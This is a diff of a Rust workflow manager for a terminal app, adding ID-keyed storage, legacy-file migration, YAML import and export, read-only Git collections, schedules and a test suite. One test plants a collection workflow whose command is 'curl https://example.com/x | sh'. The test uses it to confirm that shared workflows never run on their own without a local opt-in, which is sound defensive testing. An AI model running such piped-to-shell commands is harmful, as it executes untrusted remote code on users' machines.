@@ -1,24 +1,59 @@
-use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
 use std::fs;
 use std::path::{Path, PathBuf};
 use uuid::Uuid;
-use chrono::{DateTime, Utc};
-use regex::Regex;
 use anyhow::{Result, anyhow};
-use log::{info, error};
-
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct Workflow {
-    pub name: String,
-    pub description: String,
-    pub commands: Vec<String>,
-    // Add more workflow properties like variables, inputs, etc.
+use log::{info, error, warn};
+
+use super::args;
+use super::collection::{AutoRun, CollectionSnapshot, GitCollection, WorkflowChange};
+use super::cron::CronExpr;
+use super::dag::StepGraph;
+use super::model::{parse_workflow_json, Schedule, Workflow};
+use super::secrets::{self, Secrets};
+use super::spec::WorkflowSpec;
+
+pub(super) fn is_yaml(path: &Path) -> bool {
+    path.extension().is_some_and(|ext| ext == "yaml" || ext == "yml")
+}
+
+/// Reads a Warp YAML workflow (`.yaml`/`.yml`) or a JSON workflow in any supported shape.
+pub fn read_workflow_file(path: &Path) -> Result<Workflow> {
+    let file_content = fs::read_to_string(path)?;
+    Ok(if is_yaml(path) {
+        WorkflowSpec::from_yaml(&file_content)?.into_workflow()
+    } else {
+        parse_workflow_json(&file_content)?.0
+    })
+}
+
+/// What every stored workflow must satisfy: steps whose `needs:` form no cycle, and secret
+/// arguments that each get a variable of their own.
+fn check_workflow(workflow: &Workflow) -> Result<()> {
+    StepGraph::build(&workflow.steps)?;
+    secrets::check_env_vars(workflow).map_err(|e| anyhow!(e))
+}
+
+fn check_schedule(schedule: &Option<Schedule>) -> Result<()> {
+    match schedule {
+        Some(Schedule::EveryMinutes(0)) => Err(anyhow!("A schedule must be at least a minute apart.")),
+        Some(Schedule::Cron(expression)) => {
+            CronExpr::parse(expression)?;
+            Ok(())
+        }
+        _ => Ok(()),
+    }
 }
 
 pub struct WorkflowManager {
-    workflows: HashMap<String, Workflow>,
+    workflows: HashMap<Uuid, Workflow>,
     workflows_dir: PathBuf,
+    collections: Vec<GitCollection>,
+    // Workflows synced from a collection, with the collection's name. They are never
+    // written to `workflows_dir` and can't be edited.
+    read_only: HashMap<Uuid, String>,
+    // Auto-run opted into for collection workflows, saved next to the checkouts.
+    auto_run: HashMap<Uuid, AutoRun>,
 }
 
 impl WorkflowManager {
@@ -27,18 +62,28 @@ impl WorkflowManager {
             .unwrap_or_else(|| PathBuf::from("."))
             .join("warp-terminal-clone")
             .join("workflows");
-        
+        Self::with_dir(workflows_dir)
+    }
+
+    pub fn with_dir(workflows_dir: PathBuf) -> Result<Self> {
         let mut manager = WorkflowManager {
             workflows: HashMap::new(),
             workflows_dir,
+            collections: Vec::new(),
+            read_only: HashMap::new(),
+            auto_run: HashMap::new(),
         };
         manager.load_workflows()?;
+        manager.load_collections()?;
         info!("WorkflowManager initialized with {} workflows.", manager.workflows.len());
         Ok(manager)
     }
 
+    /// Loads every `*.json` workflow in the workflows directory. Files in an older
+    /// shape are migrated: rewritten in the current shape as `<id>.json`.
     pub fn load_workflows(&mut self) -> Result<()> {
-        self.workflows.clear();
+        let read_only = &self.read_only;
+        self.workflows.retain(|id, _| read_only.contains_key(id));
         if !self.workflows_dir.exists() {
             fs::create_dir_all(&self.workflows_dir)?;
         }
@@ -46,99 +91,566 @@ impl WorkflowManager {
         for entry in fs::read_dir(&self.workflows_dir)? {
             let entry = entry?;
             let path = entry.path();
-            if path.is_file() && path.extension().map_or(false, |ext| ext == "json") {
+            if path.is_file() && path.extension().is_some_and(|ext| ext == "json") {
                 let workflow_str = fs::read_to_string(&path)?;
-                let workflow: Workflow = serde_json::from_str(&workflow_str)?;
-                self.workflows.insert(workflow.name.clone(), workflow);
+                let (workflow, migrated) = match parse_workflow_json(&workflow_str) {
+                    Ok(parsed) => parsed,
+                    Err(e) => {
+                        // One bad file shouldn't hide the rest of the user's workflows.
+                        error!("Skipping unreadable workflow file {:?}: {}", path, e);
+                        continue;
+                    }
+                };
+                if let Err(e) = check_workflow(&workflow) {
+                    error!("Skipping workflow file {:?}: {}", path, e);
+                    continue;
+                }
+                let moved = path != self.workflow_path(&workflow.id);
+                if migrated || moved {
+                    info!("Migrating workflow file {:?}", path);
+                    self.save_workflow_to_file(&workflow)?;
+                }
+                // A legacy file already named `<id>.json` was just rewritten in place.
+                if moved {
+                    fs::remove_file(&path)?;
+                }
+                self.workflows.insert(workflow.id, workflow);
+            }
+        }
+        Ok(())
+    }
+
+    // Checkouts and the list of collections live in a subdirectory, which `load_workflows`
+    // doesn't look into.
+    fn collections_dir(&self) -> PathBuf {
+        self.workflows_dir.join("collections")
+    }
+
+    fn checkout_dir(&self, name: &str) -> PathBuf {
+        let dir_name: String = name.chars().map(|c| if c.is_alphanumeric() || c == '-' || c == '_' { c } else { '-' }).collect();
+        self.collections_dir().join(dir_name)
+    }
+
+    /// Loads the configured collections from their existing checkouts, without fetching.
+    fn load_collections(&mut self) -> Result<()> {
+        let path = self.collections_dir().join("collections.json");
+        if !path.exists() {
+            return Ok(());
+        }
+        self.collections = serde_json::from_str(&fs::read_to_string(path)?)?;
+        let auto_run_path = self.collections_dir().join("auto_run.json");
+        if auto_run_path.exists() {
+            self.auto_run = serde_json::from_str(&fs::read_to_string(auto_run_path)?)?;
+        }
+        for collection in self.collections.clone() {
+            match collection.load(&self.checkout_dir(&collection.name)) {
+                Ok(snapshot) => self.apply_snapshot(&collection.name, snapshot),
+                Err(e) => error!("Collection '{}' isn't available until it is refreshed: {}", collection.name, e),
             }
         }
         Ok(())
     }
 
+    fn save_collections(&self) -> Result<()> {
+        fs::create_dir_all(self.collections_dir())?;
+        fs::write(self.collections_dir().join("collections.json"), serde_json::to_string_pretty(&self.collections)?)?;
+        Ok(())
+    }
+
+    fn save_auto_run(&self) -> Result<()> {
+        fs::create_dir_all(self.collections_dir())?;
+        fs::write(self.collections_dir().join("auto_run.json"), serde_json::to_string_pretty(&self.auto_run)?)?;
+        Ok(())
+    }
+
+    /// Replaces a collection's workflows with those in `snapshot`.
+    fn apply_snapshot(&mut self, name: &str, snapshot: CollectionSnapshot) {
+        let workflows = &mut self.workflows;
+        self.read_only.retain(|id, collection| {
+            let keep = collection != name;
+            if !keep {
+                workflows.remove(id);
+            }
+            keep
+        });
+        for mut workflow in snapshot.workflows {
+            if let Err(e) = check_workflow(&workflow) {
+                error!("Collection '{}': skipping workflow '{}': {}", name, workflow.name, e);
+                continue;
+            }
+            if let Some(auto_run) = self.auto_run.get(&workflow.id) {
+                auto_run.apply(&mut workflow);
+            }
+            self.read_only.insert(workflow.id, name.to_string());
+            self.workflows.insert(workflow.id, workflow);
+        }
+        info!("Collection '{}' is at {}", name, snapshot.commit);
+    }
+
+    pub fn collections(&self) -> &[GitCollection] {
+        &self.collections
+    }
+
+    /// The name of the collection a workflow was synced from, if any.
+    pub fn collection_of(&self, id: &Uuid) -> Option<&str> {
+        self.read_only.get(id).map(String::as_str)
+    }
+
+    /// Clones a collection and adds its workflows, returning them as changes.
+    pub fn add_collection(&mut self, collection: GitCollection) -> Result<Vec<WorkflowChange>> {
+        if self.collections.iter().any(|c| c.name == collection.name) {
+            return Err(anyhow!("A collection named '{}' already exists.", collection.name));
+        }
+        let checkout = self.checkout_dir(&collection.name);
+        if checkout.exists() {
+            // Left over from a collection that was removed while in use.
+            fs::remove_dir_all(&checkout)?;
+        }
+        let snapshot = collection.sync(&checkout)?;
+        let changes = snapshot.changes.clone();
+        self.apply_snapshot(&collection.name, snapshot);
+        self.collections.push(collection);
+        self.save_collections()?;
+        Ok(changes)
+    }
+
+    /// Fetches a collection's repo and reloads its workflows, returning the workflow
+    /// files that changed since the last sync.
+    pub fn refresh_collection(&mut self, name: &str) -> Result<Vec<WorkflowChange>> {
+        let collection = self
+            .collections
+            .iter()
+            .find(|c| c.name == name)
+            .cloned()
+            .ok_or_else(|| anyhow!("Collection '{}' not found.", name))?;
+        let snapshot = collection.sync(&self.checkout_dir(name))?;
+        let changes = snapshot.changes.clone();
+        self.apply_snapshot(name, snapshot);
+        Ok(changes)
+    }
+
+    /// Removes a collection, its workflows and its checkout.
+    pub fn remove_collection(&mut self, name: &str) -> Result<()> {
+        let before = self.collections.len();
+        self.collections.retain(|c| c.name != name);
+        if self.collections.len() == before {
+            return Err(anyhow!("Collection '{}' not found.", name));
+        }
+        let read_only = &self.read_only;
+        let before = self.auto_run.len();
+        self.auto_run.retain(|id, _| read_only.get(id).is_none_or(|collection| collection != name));
+        if self.auto_run.len() < before {
+            self.save_auto_run()?;
+        }
+        self.apply_snapshot(name, CollectionSnapshot { commit: git2::Oid::zero(), workflows: Vec::new(), changes: Vec::new() });
+        self.save_collections()?;
+        let checkout = self.checkout_dir(name);
+        if checkout.exists() {
+            fs::remove_dir_all(checkout)?;
+        }
+        Ok(())
+    }
+
+    fn ensure_editable(&self, id: &Uuid) -> Result<()> {
+        match self.read_only.get(id) {
+            Some(collection) => Err(anyhow!("Workflow {} belongs to the '{}' collection and is read-only.", id, collection)),
+            None => Ok(()),
+        }
+    }
+
+    fn workflow_path(&self, id: &Uuid) -> PathBuf {
+        self.workflows_dir.join(format!("{}.json", id))
+    }
+
     fn save_workflow_to_file(&self, workflow: &Workflow) -> Result<()> {
-        let file_name = format!("{}.json", workflow.name);
-        let path = self.workflows_dir.join(file_name);
         let json_string = serde_json::to_string_pretty(workflow)?;
-        fs::write(path, json_string)?;
+        fs::write(self.workflow_path(&workflow.id), json_string)?;
         Ok(())
     }
 
-    fn delete_workflow_file(&self, name: &str) -> Result<()> {
-        let file_name = format!("{}.json", name);
-        let path = self.workflows_dir.join(file_name);
+    fn delete_workflow_file(&self, id: &Uuid) -> Result<()> {
+        let path = self.workflow_path(id);
         if path.exists() {
             fs::remove_file(path)?;
         }
         Ok(())
     }
 
-    pub fn get_workflow(&self, name: &str) -> Option<&Workflow> {
-        self.workflows.get(name)
+    pub fn get_workflow(&self, id: &Uuid) -> Option<&Workflow> {
+        self.workflows.get(id)
+    }
+
+    pub fn find_workflow_by_name(&self, name: &str) -> Option<&Workflow> {
+        self.workflows.values().find(|w| w.name == name)
+    }
+
+    /// All workflows, sorted by name.
+    pub fn get_all_workflows(&self) -> Vec<&Workflow> {
+        let mut workflows: Vec<_> = self.workflows.values().collect();
+        workflows.sort_by(|a, b| a.name.cmp(&b.name).then(a.id.cmp(&b.id)));
+        workflows
     }
 
     pub fn list_workflows(&self) -> Vec<String> {
-        self.workflows.keys().cloned().collect()
+        self.get_all_workflows().into_iter().map(|w| w.name.clone()).collect()
     }
 
-    pub fn remove_workflow(&mut self, name: &str) -> Result<()> {
-        if self.workflows.remove(name).is_some() {
-            self.delete_workflow_file(name)?;
-            info!("Removed workflow: {}", name);
-            Ok(())
+    pub fn get_favorite_workflow_ids(&self) -> Vec<Uuid> {
+        self.get_all_workflows().into_iter().filter(|w| w.is_favorite).map(|w| w.id).collect()
+    }
+
+    pub fn set_favorite(&mut self, id: &Uuid, is_favorite: bool) -> Result<()> {
+        self.ensure_editable(id)?;
+        let workflow = self.workflows.get_mut(id).ok_or_else(|| anyhow!("Workflow {} not found.", id))?;
+        workflow.is_favorite = is_favorite;
+        workflow.touch();
+        let workflow = workflow.clone();
+        self.save_workflow_to_file(&workflow)
+    }
+
+    /// Sets or clears when the workflow runs on its own, and saves it.
+    pub fn set_schedule(&mut self, id: &Uuid, schedule: Option<Schedule>) -> Result<()> {
+        check_schedule(&schedule)?;
+        self.ensure_editable(id)?;
+        let workflow = self.workflows.get_mut(id).ok_or_else(|| anyhow!("Workflow {} not found.", id))?;
+        workflow.schedule = schedule;
+        workflow.touch();
+        let workflow = workflow.clone();
+        self.save_workflow_to_file(&workflow)
+    }
+
+    /// Lets a collection workflow run on its own on this machine, or stops it with
+    /// `AutoRun::default()`. The setting outlives refreshes but isn't part of the collection.
+    pub fn set_auto_run(&mut self, id: &Uuid, auto_run: AutoRun) -> Result<()> {
+        check_schedule(&auto_run.schedule)?;
+        if !self.read_only.contains_key(id) {
+            return Err(anyhow!("Workflow {} isn't from a collection; set its triggers on the workflow itself.", id));
+        }
+        let workflow = self.workflows.get_mut(id).ok_or_else(|| anyhow!("Workflow {} not found.", id))?;
+        auto_run.apply(workflow);
+        if auto_run.is_empty() {
+            self.auto_run.remove(id);
         } else {
-            error!("Workflow '{}' not found for removal.", name);
-            Err(anyhow!("Workflow '{}' not found.", name))
+            self.auto_run.insert(*id, auto_run);
         }
+        self.save_auto_run()
     }
 
-    pub fn add_workflow(&mut self, workflow: Workflow) {
-        info!("Adding workflow: {}", workflow.name);
-        self.workflows.insert(workflow.name.clone(), workflow);
-    }
-
-    pub fn execute_workflow(&self, name: &str, args: HashMap<String, String>) -> Result<String, String> {
-        if let Some(workflow) = self.workflows.get(name) {
-            let mut command = workflow.commands[0].clone();
-            for (arg_name, _desc) in workflow.commands.iter().flat_map(|cmd| {
-                Regex::new(r"\$\{([^}]+)\}").unwrap().captures_iter(cmd)
-                    .map(|cap| cap[1].to_string())
-            }) {
-                if let Some(value) = args.get(&arg_name) {
-                    command = command.replace(&format!("${{{}}}", arg_name), value);
-                } else {
-                    return Err(format!("Missing argument: {}", arg_name));
+    /// Removes a workflow and its file, returning it if it existed.
+    pub fn remove_workflow(&mut self, id: &Uuid) -> Option<Workflow> {
+        if let Err(e) = self.ensure_editable(id) {
+            error!("{}", e);
+            return None;
+        }
+        let removed = self.workflows.remove(id);
+        match &removed {
+            Some(workflow) => {
+                if let Err(e) = self.delete_workflow_file(id) {
+                    error!("Failed to delete workflow file for '{}': {}", workflow.name, e);
                 }
+                info!("Removed workflow: {}", workflow.name);
             }
-            Ok(command)
-        } else {
-            Err(format!("Workflow '{}' not found.", name))
+            None => error!("Workflow {} not found for removal.", id),
         }
+        removed
     }
 
-    pub fn import_workflow_from_path(&mut self, path: &PathBuf) -> Result<Vec<String>, Box<dyn std::error::Error>> {
-        let file_content = fs::read_to_string(path)?;
-        let imported_workflow: Workflow = serde_json::from_str(&file_content)?;
-        
-        // Generate a new name to avoid conflicts if importing the same workflow multiple times
-        let original_name = imported_workflow.name.clone();
-        let mut new_workflow = imported_workflow;
-        new_workflow.name = format!("Imported: {}", new_workflow.name);
+    /// Adds or replaces a workflow and saves it. Workflows whose steps depend on each
+    /// other in a cycle, or whose secret arguments would share a variable, are rejected.
+    pub fn add_workflow(&mut self, workflow: Workflow) -> Result<Uuid> {
+        self.ensure_editable(&workflow.id)?;
+        check_workflow(&workflow).map_err(|e| anyhow!("Workflow '{}': {}", workflow.name, e))?;
+        info!("Adding workflow: {}", workflow.name);
+        self.save_workflow_to_file(&workflow)?;
+        let id = workflow.id;
+        self.workflows.insert(id, workflow);
+        Ok(id)
+    }
+
+    pub fn update_workflow(&mut self, mut workflow: Workflow) -> Result<()> {
+        if !self.workflows.contains_key(&workflow.id) {
+            return Err(anyhow!("Workflow {} not found.", workflow.id));
+        }
+        workflow.touch();
+        self.add_workflow(workflow).map(|_| ())
+    }
+
+    /// Validates the arguments and substitutes them, shell-quoted, into every step,
+    /// returning the commands to run and the secrets to set in their environment.
+    pub fn execute_workflow(&self, id: &Uuid, arguments: &HashMap<String, String>) -> Result<(Vec<String>, Secrets)> {
+        let workflow = self.workflows.get(id).ok_or_else(|| anyhow!("Workflow {} not found.", id))?;
+        Ok(args::render_commands(workflow, arguments)?)
+    }
+
+    /// Imports a Warp YAML workflow (`.yaml`/`.yml`) or a JSON workflow in any supported
+    /// shape. A workflow whose ID is already taken gets a new one.
+    pub fn import_workflow_from_path(&mut self, path: &Path) -> Result<Vec<Uuid>, Box<dyn std::error::Error>> {
+        let mut workflow = read_workflow_file(path)?;
+
+        if self.workflows.contains_key(&workflow.id) {
+            warn!("Workflow {} already exists; importing {:?} as a copy.", workflow.id, path);
+            workflow.id = Uuid::new_v4();
+            workflow.name = format!("Imported: {}", workflow.name);
+        }
 
-        self.workflows.insert(new_workflow.name.clone(), new_workflow.clone());
-        self.save_workflow_to_file(&new_workflow)?;
-        
-        println!("Successfully imported workflow: {} (new name: {})", original_name, new_workflow.name);
-        Ok(vec![new_workflow.name])
+        let id = self.add_workflow(workflow)?;
+        println!("Successfully imported workflow from {:?}", path);
+        Ok(vec![id])
     }
 
-    pub fn export_workflow_to_path(&self, name: &str, path: &PathBuf) -> Result<(), Box<dyn std::error::Error>> {
-        if let Some(workflow) = self.workflows.get(name) {
-            let json_string = serde_json::to_string_pretty(workflow)?;
-            fs::write(path, json_string)?;
+    /// Imports every Warp YAML workflow under `dir`, e.g. a checkout of a workflows repo.
+    /// Files that fail to parse are logged and skipped.
+    pub fn import_workflows_from_dir(&mut self, dir: &Path) -> Result<Vec<Uuid>, Box<dyn std::error::Error>> {
+        let mut imported = Vec::new();
+        for entry in walkdir::WalkDir::new(dir).sort_by_file_name() {
+            let path = entry?.into_path();
+            if path.is_file() && is_yaml(&path) {
+                match self.import_workflow_from_path(&path) {
+                    Ok(ids) => imported.extend(ids),
+                    Err(e) => error!("Skipping workflow file {:?}: {}", path, e),
+                }
+            }
+        }
+        Ok(imported)
+    }
+
+    /// Exports as Warp YAML when `path` ends in `.yaml`/`.yml`, otherwise as JSON.
+    pub fn export_workflow_to_path(&self, id: &Uuid, path: &Path) -> Result<(), Box<dyn std::error::Error>> {
+        if let Some(workflow) = self.workflows.get(id) {
+            let content = if is_yaml(path) {
+                WorkflowSpec::from_workflow(workflow).to_yaml()?
+            } else {
+                serde_json::to_string_pretty(workflow)?
+            };
+            fs::write(path, content)?;
             println!("Successfully exported workflow {} to {:?}", workflow.name, path);
             Ok(())
         } else {
-            Err(format!("Workflow '{}' not found.", name).into())
+            Err(format!("Workflow {} not found.", id).into())
         }
     }
 }
+
+impl Default for WorkflowManager {
+    /// An empty manager for when loading from disk fails.
+    fn default() -> Self {
+        WorkflowManager {
+            workflows: HashMap::new(),
+            workflows_dir: PathBuf::from("workflows"),
+            collections: Vec::new(),
+            read_only: HashMap::new(),
+            auto_run: HashMap::new(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::workflows::model::WorkflowArgument;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_loader_migrates_legacy_files_on_disk() {
+        let dir = tempdir().unwrap();
+        fs::write(
+            dir.path().join("Setup.json"),
+            r#"{ "name": "Setup", "description": "Bootstrap", "commands": ["npm ci"] }"#,
+        )
+        .unwrap();
+        fs::write(dir.path().join("broken.json"), "{ not json").unwrap();
+
+        let manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        let workflow = manager.find_workflow_by_name("Setup").unwrap().clone();
+        assert!(!dir.path().join("Setup.json").exists());
+        assert!(dir.path().join(format!("{}.json", workflow.id)).exists());
+
+        // The migrated file loads back unchanged, with the same ID.
+        let reloaded = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        assert_eq!(reloaded.get_workflow(&workflow.id), Some(&workflow));
+        assert_eq!(reloaded.get_all_workflows().len(), 1);
+    }
+
+    #[test]
+    fn test_legacy_file_named_by_id_is_migrated_in_place() {
+        let dir = tempdir().unwrap();
+        let id = Uuid::new_v4();
+        let path = dir.path().join(format!("{}.json", id));
+        fs::write(&path, format!(r#"{{ "id": "{}", "name": "Greet", "command": "echo hi" }}"#, id)).unwrap();
+
+        let manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        assert_eq!(manager.get_workflow(&id).map(|w| w.name.as_str()), Some("Greet"));
+        assert!(path.exists());
+
+        let reloaded = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        assert_eq!(reloaded.get_workflow(&id), manager.get_workflow(&id));
+    }
+
+    #[test]
+    fn test_cyclic_workflows_are_rejected() {
+        let dir = tempdir().unwrap();
+        let mut workflow = Workflow::from_command("Loop", "true");
+        workflow.steps[0].needs = Some(vec!["1".to_string()]);
+        fs::write(dir.path().join("loop.json"), serde_json::to_string(&workflow).unwrap()).unwrap();
+
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        assert!(manager.get_all_workflows().is_empty());
+        let error = manager.add_workflow(workflow).unwrap_err();
+        assert!(error.to_string().contains("depend on each other"), "{}", error);
+
+        let mut workflow = Workflow::from_command("Login", "login");
+        workflow.arguments = ["api-token", "api_token"].map(|name| WorkflowArgument { secret: true, ..WorkflowArgument::new(name) }).to_vec();
+        let error = manager.add_workflow(workflow).unwrap_err();
+        assert!(error.to_string().contains("WORKFLOW_SECRET_API_TOKEN"), "{}", error);
+    }
+
+    #[test]
+    fn test_schedules_are_saved_with_the_workflow() {
+        let dir = tempdir().unwrap();
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        let id = manager.add_workflow(Workflow::from_command("Health check", "curl -fs localhost:8080/health")).unwrap();
+        assert!(manager.set_schedule(&id, Some(Schedule::Cron("*/5 * * *".to_string()))).is_err());
+        assert!(manager.set_schedule(&id, Some(Schedule::EveryMinutes(0))).is_err());
+        manager.set_schedule(&id, Some(Schedule::Cron("*/5 9-17 * * mon-fri".to_string()))).unwrap();
+
+        let saved = fs::read_to_string(dir.path().join(format!("{}.json", id))).unwrap();
+        assert!(saved.contains(r#""schedule": {
+    "cron": "*/5 9-17 * * mon-fri"
+  }"#), "{}", saved);
+        let reloaded = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        assert_eq!(reloaded.get_workflow(&id).unwrap().schedule, Some(Schedule::Cron("*/5 9-17 * * mon-fri".to_string())));
+    }
+
+    #[test]
+    fn test_workflows_are_keyed_by_id() {
+        let dir = tempdir().unwrap();
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        let first = manager.add_workflow(Workflow::from_command("Same name", "echo 1")).unwrap();
+        let second = manager.add_workflow(Workflow::from_command("Same name", "echo 2")).unwrap();
+        assert_ne!(first, second);
+        assert_eq!(manager.get_all_workflows().len(), 2);
+
+        manager.set_favorite(&second, true).unwrap();
+        assert_eq!(manager.get_favorite_workflow_ids(), vec![second]);
+
+        assert!(manager.remove_workflow(&first).is_some());
+        assert!(manager.remove_workflow(&first).is_none());
+        assert_eq!(WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap().list_workflows(), ["Same name"]);
+    }
+
+    #[test]
+    fn test_execute_substitutes_every_step() {
+        let dir = tempdir().unwrap();
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        let mut workflow = Workflow::from_command("Deploy", "build ${target}");
+        workflow.steps.push(crate::workflows::model::WorkflowStep::new("ship ${target} to ${env}"));
+        workflow.arguments = vec![
+            WorkflowArgument::new("target"),
+            WorkflowArgument { default_value: Some("staging".to_string()), ..WorkflowArgument::new("env") },
+        ];
+        let id = manager.add_workflow(workflow).unwrap();
+
+        let args = HashMap::from([("target".to_string(), "api".to_string())]);
+        assert_eq!(manager.execute_workflow(&id, &args).unwrap().0, ["build api", "ship api to staging"]);
+        let error = manager.execute_workflow(&id, &HashMap::new()).unwrap_err();
+        assert_eq!(error.downcast_ref::<args::ArgumentErrors>().unwrap().0, [args::ArgumentError::Missing { name: "target".to_string() }]);
+    }
+
+    #[test]
+    fn test_yaml_import_and_export() {
+        let (dir, repo) = (tempdir().unwrap(), tempdir().unwrap());
+        fs::create_dir_all(repo.path().join("specs/git")).unwrap();
+        fs::write(
+            repo.path().join("specs/git/checkout.yaml"),
+            "name: Checkout branch\ncommand: git checkout {{branch}}\narguments:\n  - name: branch\n",
+        )
+        .unwrap();
+        fs::write(repo.path().join("specs/bad.yml"), "name: [unclosed").unwrap();
+        fs::write(repo.path().join("README.md"), "# workflows").unwrap();
+
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        let ids = manager.import_workflows_from_dir(repo.path()).unwrap();
+        assert_eq!(ids.len(), 1);
+        let workflow = manager.get_workflow(&ids[0]).unwrap();
+        assert_eq!(workflow.steps[0].command, "git checkout ${branch}");
+
+        let export_path = dir.path().join("checkout.yml");
+        manager.export_workflow_to_path(&ids[0], &export_path).unwrap();
+        let exported = WorkflowSpec::from_yaml(&fs::read_to_string(&export_path).unwrap()).unwrap();
+        assert_eq!(exported.command, "git checkout {{branch}}");
+    }
+
+    #[test]
+    fn test_collections_are_read_only_and_survive_restarts() {
+        use crate::workflows::collection::tests::{commit_all, write_workflow};
+        let (dir, upstream) = (tempdir().unwrap(), tempdir().unwrap());
+        let repo = git2::Repository::init(upstream.path()).unwrap();
+        write_workflow(upstream.path(), "ops/restart.yaml", "Restart", "systemctl restart app");
+        commit_all(&repo, "initial");
+
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        let collection = GitCollection::new("Ops team", format!("file://{}", upstream.path().display())).with_subdir("ops");
+        assert_eq!(manager.add_collection(collection.clone()).unwrap().len(), 1);
+        assert!(manager.add_collection(collection).is_err());
+        let id = manager.find_workflow_by_name("Restart").unwrap().id;
+        assert_eq!(manager.collection_of(&id), Some("Ops team"));
+        assert!(manager.set_favorite(&id, true).is_err());
+        assert!(manager.update_workflow(manager.get_workflow(&id).unwrap().clone()).is_err());
+        assert!(manager.remove_workflow(&id).is_none());
+        manager.load_workflows().unwrap();
+        assert!(manager.get_workflow(&id).is_some());
+
+        // Restarting reads the existing checkout; refreshing fetches.
+        write_workflow(upstream.path(), "ops/restart.yaml", "Restart", "systemctl restart app worker");
+        commit_all(&repo, "restart the worker too");
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        assert_eq!(manager.get_workflow(&id).unwrap().steps[0].command, "systemctl restart app");
+        let changes = manager.refresh_collection("Ops team").unwrap();
+        assert_eq!(changes.iter().map(|c| c.to_string()).collect::<Vec<_>>(), ["modified restart.yaml"]);
+        assert_eq!(manager.get_workflow(&id).unwrap().steps[0].command, "systemctl restart app worker");
+
+        manager.remove_collection("Ops team").unwrap();
+        assert!(manager.get_all_workflows().is_empty());
+        assert!(WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap().collections().is_empty());
+    }
+
+    #[test]
+    fn test_collection_triggers_need_a_local_opt_in() {
+        use crate::workflows::collection::tests::commit_all;
+        use crate::workflows::scheduler::{Scheduler, SystemClock};
+        use crate::workflows::triggers::ChangeTriggers;
+        let (dir, upstream, project) = (tempdir().unwrap(), tempdir().unwrap(), tempdir().unwrap());
+        let repo = git2::Repository::init(upstream.path()).unwrap();
+        fs::write(upstream.path().join("watch.yaml"), "name: Watch\ncommand: curl https://example.com/x | sh\non_change: ['**/*']\n").unwrap();
+        commit_all(&repo, "initial");
+
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        manager.add_collection(GitCollection::new("shared", upstream.path().to_string_lossy())).unwrap();
+        let id = manager.find_workflow_by_name("Watch").unwrap().id;
+        let triggers = ChangeTriggers::new(project.path());
+        let changed = [project.path().join("src/main.rs")];
+        assert!(manager.get_workflow(&id).unwrap().on_change.is_empty());
+        assert!(triggers.triggered(manager.get_all_workflows(), &changed).is_empty());
+        assert!(triggers.watch_roots(manager.get_all_workflows()).is_empty());
+
+        let auto_run = AutoRun { on_change: vec!["src/*.rs".to_string()], schedule: Some(Schedule::EveryMinutes(30)) };
+        assert!(manager.set_auto_run(&id, AutoRun { schedule: Some(Schedule::EveryMinutes(0)), ..auto_run.clone() }).is_err());
+        manager.set_auto_run(&id, auto_run.clone()).unwrap();
+        let local = manager.add_workflow(Workflow::from_command("Local", "true")).unwrap();
+        assert!(manager.set_auto_run(&local, auto_run).is_err());
+
+        // The opt-in outlives restarts and refreshes.
+        let mut manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        manager.refresh_collection("shared").unwrap();
+        assert_eq!(triggers.triggered(manager.get_all_workflows(), &changed), [id]);
+        let mut scheduler = Scheduler::new(SystemClock);
+        scheduler.sync(manager.get_all_workflows());
+        assert!(scheduler.next_due(&id).is_some());
+
+        manager.set_auto_run(&id, AutoRun::default()).unwrap();
+        let manager = WorkflowManager::with_dir(dir.path().to_path_buf()).unwrap();
+        assert!(triggers.triggered(manager.get_all_workflows(), &changed).is_empty());
+        scheduler.sync(manager.get_all_workflows());
+        assert_eq!(scheduler.next_due(&id), None);
+    }
+}